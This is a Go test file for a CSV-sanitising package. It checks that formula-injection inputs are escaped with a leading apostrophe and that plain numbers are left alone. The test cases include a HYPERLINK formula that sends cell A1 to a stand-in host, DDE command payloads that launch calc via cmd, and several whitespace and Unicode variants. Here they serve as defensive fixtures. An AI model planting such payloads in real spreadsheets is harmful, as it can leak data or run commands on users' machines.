package csvsafe

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Mercy General", "Mercy General"},
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\x00=1", "'\x00=1"},
		{"  =1+1", "'  =1+1"},
		{"＝1+1", "'＝1+1"},
		{"-", "'-"},
		{"--", "'--"},
		{"-Inf", "'-Inf"},
		{"a=b", "a=b"},
		{"Smith; =1+1", "Smith; =1+1"},
		// Plain numbers stay numbers.
		{"-0.25", "-0.25"},
		{"-12", "-12"},
		{"+3", "+3"},
		{"-1.5e-3", "-1.5e-3"},
		{"-.5", "-.5"},
		{"0.000000", "0.000000"},
		{"-1-1", "'-1-1"},
		{"-1e", "'-1e"},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestWriterReadsBack writes hostile records and reads them with
// encoding/csv: every cell is the safe form of what was written, whole, and
// every line is quoted cell by cell, so a spreadsheet that splits on ';' or
// tab cannot cut a cell either.
func TestWriterReadsBack(t *testing.T) {
	records := [][]string{
		{"name", "count", "trend"},
		{"=1+1", "12", "-0.5"},
		{"a \"quoted\" name, with a comma", "0", "+1"},
		{"two\nlines", "x;=HYPERLINK(\"http://x.example\")", "\t@cmd"},
		{"", "-", "ok"},
	}
	var buf bytes.Buffer
	if err := NewWriter(&buf).WriteAll(records); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, buf.Bytes())
	}
	if len(got) != len(records) {
		t.Fatalf("%d records, want %d", len(got), len(records))
	}
	for i, r := range records {
		want := make([]string, len(r))
		for j, c := range r {
			want[j] = Cell(c)
		}
		if !slices.Equal(got[i], want) {
			t.Errorf("record %d: %q, want %q", i, got[i], want)
		}
	}
	if !strings.HasPrefix(buf.String(), `"name","count","trend"`+"\n") || !strings.Contains(buf.String(), `"x;=HYPERLINK(""http://x.example"")"`) {
		t.Errorf("cells not quoted one by one:\n%s", buf.String())
	}
}

type failing struct{}

var errDisk = errors.New("disk full")

func (failing) Write([]byte) (int, error) { return 0, errDisk }

func TestWriterKeepsTheFirstError(t *testing.T) {
	w := NewWriter(failing{})
	err := w.WriteAll([][]string{{strings.Repeat("x", 10000)}, {"y"}})
	if !errors.Is(err, errDisk) || !errors.Is(w.Error(), errDisk) {
		t.Errorf("WriteAll: %v, Error: %v", err, w.Error())
	}
}

// FuzzWriter: any cell written and read back with encoding/csv is Cell of
// it (a reader folds CRLF inside a quoted cell to LF), and no cell read
// back would start a formula unless it is a plain number.
func FuzzWriter(f *testing.F) {
	for _, s := range []string{"", "=1+1", "-12.5", "a\"b", "x\r\ny", " @z", "＠", "\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		if err := NewWriter(&buf).WriteAll([][]string{{s, "next"}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil || len(recs) != 1 || len(recs[0]) != 2 || recs[0][1] != "next" {
			t.Fatalf("%q read back as %q (%v)", buf.String(), recs, err)
		}
		got := recs[0][0]
		if want := strings.ReplaceAll(Cell(s), "\r\n", "\n"); got != want {
			t.Fatalf("cell %q read back as %q, want %q", s, got, want)
		}
		lead := strings.TrimLeft(got, " ")
		if lead != "" && strings.ContainsRune(triggers, firstRune(lead)) && !plainNumber.MatchString(got) {
			t.Fatalf("cell %q read back as %q, a formula", s, got)
		}
	})
}
